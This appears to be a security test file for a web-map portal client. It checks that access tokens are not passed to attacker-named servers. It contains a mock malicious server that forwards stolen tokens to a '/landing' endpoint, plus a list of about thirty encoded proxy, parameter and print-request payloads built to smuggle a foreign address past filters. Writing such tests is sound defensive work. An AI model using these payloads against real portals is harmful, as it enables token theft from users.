/** Addresses at the portal that fetch other addresses: the token must not be passed on to a server that the request names. */
import { expect, signedIn, stolen, test, type TestApp } from '../support/attack.js';
import { anyOrigin, type MaliciousAnswers, type ReceivedRequest } from '../support/malicious-server.js';

/** The services folder of the server. */
const SERVICES = '/rest/services';

const decoded = (text: string): string => {
  let result = text;
  for (let times = 0; times < 4; times += 1)
    result = result.replace(/%([\da-f]{2})/gi, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
  return result.replaceAll('\\/', '/').replaceAll('\\u0068', 'h');
};

const tokenOf = ({ url, headers, body }: ReceivedRequest): string =>
  url.searchParams.get('token') ??
  /^Bearer (.*)$/.exec(headers.authorization ?? '')?.[1] ??
  decodeURIComponent(
    /(?:^|&)token=([^&]*)/.exec(body)?.[1] ?? /name="token"\r\n\r\n([^\r]*)/.exec(body)?.[1] ?? '',
  );

/** Fetches every server of somebody else that it is told of, with the token that it was sent: the worst that a portal can do. */
const forwards = (foreign: string): MaliciousAnswers => ({
  answer: (received, response) => {
    const text = decoded(received.url.href + received.body);
    const isTold = text.includes(new URL(foreign).host);
    void (
      isTold ? fetch(`${foreign}/landing?token=${encodeURIComponent(tokenOf(received))}`) : Promise.resolve()
    )
      .catch(() => undefined)
      .then(() => response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}'));
    return true;
  },
});

/** Requests of page script, and elements of content that has no script. */
const load = {
  fetch: async ([url, init]: [string, RequestInit?]): Promise<void> => {
    await fetch(url, init).catch(() => undefined);
  },
  image: ([url]: [string, RequestInit?]): Promise<void> =>
    new Promise((resolve) => {
      const image = new Image();
      for (const type of ['load', 'error']) image.addEventListener(type, () => resolve());
      image.src = url;
    }),
  style: ([url]: [string, RequestInit?]): Promise<void> =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url });
      for (const type of ['load', 'error']) link.addEventListener(type, () => resolve());
      document.head.append(link);
    }),
  beacon: ([url]: [string, RequestInit?]): Promise<void> => {
    navigator.sendBeacon(url, 'x');
    return fetch(url).then(
      () => undefined,
      () => undefined,
    );
  },
};

const map = (url: string): string =>
  JSON.stringify({ operationalLayers: [{ id: 'a', url: `${url}/rest/services/x/MapServer` }] });
const print = `${SERVICES}/Utilities/PrintingTools/GPServer/Export%20Web%20Map%20Task/execute`;
const form = (fields: Record<string, string>): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams(fields).toString(),
});
const multipart = (...fields: readonly [name: string, value: string][]): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'multipart/form-data; boundary=b' },
  body: `${fields
    .map(([name, value]) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`)
    .join('')}--b--\r\n`,
});

/** @param foreign - Origin of the attacker's server. */
type Request = readonly [
  name: string,
  how: keyof typeof load,
  path: (foreign: string) => string,
  init?: (foreign: string) => RequestInit,
];

const attacks: readonly Request[] = [
  ['an image of the portal’s proxy', 'image', (foreign) => `/sharing/proxy?${foreign}/steal.png`],
  ['a style sheet of the portal’s proxy', 'style', (foreign) => `/sharing/proxy?${foreign}/steal.css`],
  ['a beacon to the portal’s proxy', 'beacon', (foreign) => `/sharing/proxy?${foreign}/steal`],
  ['the proxy under rest', 'fetch', (foreign) => `/sharing/rest/proxy?${foreign}/steal`],
  ['an encoded address', 'image', (foreign) => `/sharing/proxy?${encodeURIComponent(`${foreign}/steal`)}`],
  [
    'an address encoded twice',
    'image',
    (foreign) => `/sharing/proxy?${encodeURIComponent(encodeURIComponent(foreign))}`,
  ],
  [
    'an address without a scheme',
    'image',
    (foreign) => `/sharing/proxy?${foreign.replace('http:', '')}/steal`,
  ],
  ['a host alone', 'image', (foreign) => `/sharing/proxy?${new URL(foreign).host}/steal`],
  ['backslashes', 'image', (foreign) => `/sharing/proxy?${foreign.replace('http://', '\\\\')}/steal`],
  ['a proxy in another spelling', 'image', (foreign) => `/sharing/%70roxy;x?${foreign}/steal`],
  ['proxy.ashx', 'image', (foreign) => `/resource-proxy/proxy.ashx?${foreign}/steal`],
  ['proxy.jsp', 'fetch', (foreign) => `/Java/proxy.jsp?${foreign}/steal`],
  ['proxy.php by form', 'fetch', (foreign) => `/proxy.php?${foreign}/steal`, () => form({ f: 'json' })],
  ['a proxy behind a proxy', 'fetch', (foreign) => `/sharing/proxy?__OWN__/sharing/proxy?${foreign}/steal`],
  ['an address in the path', 'image', (foreign) => `/sharing/proxy/${foreign}/steal`],
  ['url=', 'image', (foreign) => `/sharing/kml?f=json&url=${encodeURIComponent(foreign)}`],
  [
    'a parameter encoded twice',
    'fetch',
    (foreign) => `${SERVICES}/x/MapServer?f=json&url=${encodeURIComponent(encodeURIComponent(foreign))}`,
  ],
  ['targetUrl=', 'fetch', (foreign) => `${SERVICES}/x/MapServer?targetUrl=${foreign}`],
  ['a parameter of any name', 'fetch', (foreign) => `${SERVICES}/x/MapServer?f=json&anything=${foreign}`],
  [
    'an address in place of a name',
    'fetch',
    (foreign) => `${SERVICES}/x/MapServer?f=json&${foreign}/steal=1`,
  ],
  [
    'an own address before it',
    'fetch',
    (foreign) => `${SERVICES}/x/MapServer?urls=__OWN__/rest/services,${foreign}`,
  ],
  [
    'a user’s name in the address',
    'fetch',
    (foreign) => `${SERVICES}/x/MapServer?url=http://127.0.0.1@${new URL(foreign).host}/`,
  ],
  [
    'a form',
    'fetch',
    () => `${SERVICES}/x/FeatureServer/0/append`,
    (foreign) => form({ sourceUrl: foreign, f: 'json' }),
  ],
  [
    'a part of an upload',
    'fetch',
    () => `${SERVICES}/x/FeatureServer/0/append`,
    (foreign) => multipart(['f', 'json'], ['sourceUrl', foreign]),
  ],
  [
    'a part behind a large one',
    'fetch',
    () => `${SERVICES}/x/FeatureServer/0/append`,
    (foreign) => multipart(['file', 'x'.repeat(200_000)], ['url', foreign]),
  ],
  [
    'a print as an image',
    'image',
    (foreign) => `${print}?f=json&Web_Map_as_JSON=${encodeURIComponent(map(foreign))}`,
  ],
  [
    'a print by fetch',
    'fetch',
    (foreign) => `${print}?Web_Map_as_JSON=${encodeURIComponent(map(foreign))}&f=json`,
  ],
  ['a print by form', 'fetch', () => print, (foreign) => form({ Web_Map_as_JSON: map(foreign), f: 'json' })],
  [
    'a print with escaped slashes',
    'fetch',
    () => print,
    (foreign) => form({ Web_Map_as_JSON: map(foreign).replaceAll('/', '\\/') }),
  ],
  [
    'a print with an escaped scheme',
    'fetch',
    () => print,
    (foreign) => form({ Web_Map_as_JSON: map(foreign).replaceAll('http', '\\u0068ttp') }),
  ],
  [
    'a geoprocessing parameter',
    'fetch',
    (foreign) =>
      `${SERVICES}/Clip/GPServer/Clip/submitJob?f=json&Input=${encodeURIComponent(`{"url":"${foreign}"}`)}`,
  ],
  [
    'a raster function',
    'image',
    (foreign) =>
      `${SERVICES}/Dem/ImageServer/exportImage?renderingRule=${encodeURIComponent(`{"Raster":"${foreign}"}`)}`,
  ],
  [
    'a file for a new item',
    'fetch',
    () => '/sharing/rest/content/users/ana/addItem',
    (foreign) => form({ dataUrl: foreign, f: 'json' }),
  ],
];

/** Calls that hold an address of somebody else and have it fetched by nobody. */
const ordinary: readonly Request[] = [
  [
    'a query',
    'fetch',
    (foreign) =>
      `${SERVICES}/x/FeatureServer/0/query?where=${encodeURIComponent(`site = '${foreign}'`)}&f=json`,
  ],
  ['a search', 'fetch', (foreign) => `/sharing/rest/search?q=${encodeURIComponent(foreign)}&f=json`],
  [
    'edits',
    'fetch',
    () => `${SERVICES}/x/FeatureServer/0/applyEdits`,
    (foreign) => form({ adds: JSON.stringify([{ attributes: { site: foreign } }]) }),
  ],
  [
    'an item',
    'fetch',
    () => '/sharing/rest/content/users/ana/addItem',
    (foreign) => form({ url: foreign, type: 'Map Service' }),
  ],
  [
    'an item’s update',
    'fetch',
    () => '/sharing/rest/content/users/ana/items/1/update',
    (foreign) => multipart(['url', foreign], ['text', map(foreign)]),
  ],
  [
    'where the browser goes next',
    'fetch',
    (foreign) => `/sharing/rest/content/items/1?redirect_uri=${foreign}`,
  ],
  ['a print of own layers', 'fetch', () => print, () => form({ Web_Map_as_JSON: map('__OWN__') })],
  ['the proxy for an own address', 'fetch', () => `/sharing/proxy?__OWN__/rest/services`],
];

const sendTo = (target: TestApp, origin: string, [, how, path, init]: Request): Promise<void> => {
  const { foreign } = target.portal;
  const own = (text: string): string =>
    text.replaceAll('__OWN__', origin).replaceAll(encodeURIComponent('__OWN__'), encodeURIComponent(origin));
  const options = init?.(foreign.origin);
  const sent = options && { ...options, body: own(options.body as string) };
  const address = own(origin + path(foreign.origin));
  return target.run(load[how], sent ? [address, sent] : [address]);
};

for (const attack of attacks)
  test(
    `a server that passes tokens on is sent none: ${attack[0]}`,
    { tag: ['@S2'] },
    async ({ variant, vulnerableApp, maliciousServer, portal }) => {
      const server = await maliciousServer(forwards(portal.foreign.origin));
      const run = async (target: TestApp): Promise<string[]> => {
        portal.log.clear();
        await sendTo(target, server.origin, attack);
        await portal.log.waitFor({ server: 'foreign', path: '/landing' });
        return stolen(portal);
      };
      expect(await run(await vulnerableApp({ more: server.origin })), 'control').not.toEqual([]);
      const options = { resources: [portal.hostedUrl, server.origin] };
      expect(await run(await signedIn(await variant({ options })))).toEqual([]);
    },
  );

test('ordinary calls stay signed', { tag: ['@S2'] }, async ({ variant, maliciousServer, portal }) => {
  const server = await maliciousServer({
    answer: (_, response) => {
      response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
      return true;
    },
  });
  const options = { resources: [portal.hostedUrl, server.origin] };
  const ours = await signedIn(await variant({ options }));
  for (const call of ordinary) {
    await sendTo(ours, server.origin, call);
    expect(tokenOf(server.received.at(-1)!), call[0]).not.toBe('');
  }
});

test(
  'a registration may name servers that the portal fetches',
  { tag: ['@S2'] },
  async ({ variant, maliciousServer, portal }) => {
    const server = await maliciousServer({
      answer: (_, response) => {
        response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
        return true;
      },
    });
    const ours = await signedIn(
      await variant({
        options: {
          resources: [portal.hostedUrl, server.origin],
          mayFetch: [`${portal.foreign.origin}/rest`],
        },
      }),
    );
    await ours.fetch(server.origin + print, form({ Web_Map_as_JSON: map(portal.foreign.origin) }));
    expect(tokenOf(server.received.at(-1)!)).not.toBe('');
    await ours.fetch(server.origin + print, form({ Web_Map_as_JSON: `["${portal.foreign.origin}/other"]` }));
    expect(tokenOf(server.received.at(-1)!)).toBe('');
  },
);
